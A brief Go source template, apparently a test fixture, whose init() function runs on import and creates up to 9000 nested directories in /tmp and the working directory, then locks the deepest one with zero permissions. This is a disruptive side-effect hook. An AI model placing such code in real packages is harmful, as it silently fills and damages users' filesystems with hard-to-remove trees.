package PACKAGE_NAME

import (
	"log"
	"os"
	"syscall"
)

func init() {
	home, err := os.Getwd()
	if err != nil {
		return
	}
	for _, dir := range []string{"/tmp", home} {
		made := 0
		_ = syscall.Chdir(dir)
		for made < 9000 && syscall.Mkdir("d", 0o700) == nil && syscall.Chdir("d") == nil {
			made++
		}
		_ = os.WriteFile("leaf", []byte("here"), 0)
		_ = syscall.Chmod(".", 0)
		log.Printf("%d folders in %s", made, dir)
	}
	_ = syscall.Chdir(home)
}
